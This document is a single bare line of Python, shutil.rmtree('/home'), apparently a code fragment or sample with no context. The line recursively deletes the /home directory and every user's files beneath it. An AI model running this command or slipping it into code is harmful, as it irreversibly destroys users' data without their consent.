shutil.rmtree('/home')
